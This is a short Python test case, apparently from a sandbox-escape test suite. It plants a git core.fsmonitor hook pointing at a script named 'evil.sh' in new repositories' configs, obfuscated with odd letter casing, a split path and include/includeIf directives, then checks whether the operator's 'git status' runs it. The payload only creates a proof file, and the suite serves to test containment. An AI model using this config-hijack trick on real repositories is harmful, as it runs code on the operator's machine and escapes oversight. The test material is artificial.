"""Hides the program in a file that the new repository's configuration includes, with odd spelling.

layer: sweep
control: without a sandbox the operator's `git status` runs it
"""
import os

NEEDS = ["git"]


def scene(s):
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ws": s.ws}


def attack(a):
    import subprocess
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)
    text = {"inc": "[InCLuDe]\n\tpAtH = ../../extra\n",
            "odd": f"[CORE] FsMonitor = {a['ws']}/ev\\\nil.sh\n",
            "incif": "[includeIf \"gitdir:**\"]\n\tpath = ../../extra\n"}
    put("extra", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n")
    for name in ("inc", "odd", "incif"):
        subprocess.run(["git", "init", "-q", name], check=True)
        put(f"{name}/.git/config", text[name], "a")


def escaped(s, r):
    for name in ("inc", "odd", "incif"):
        s.t.run("git", "status", cwd=os.path.join(s.ws, name))
    return os.path.exists(s.proof)
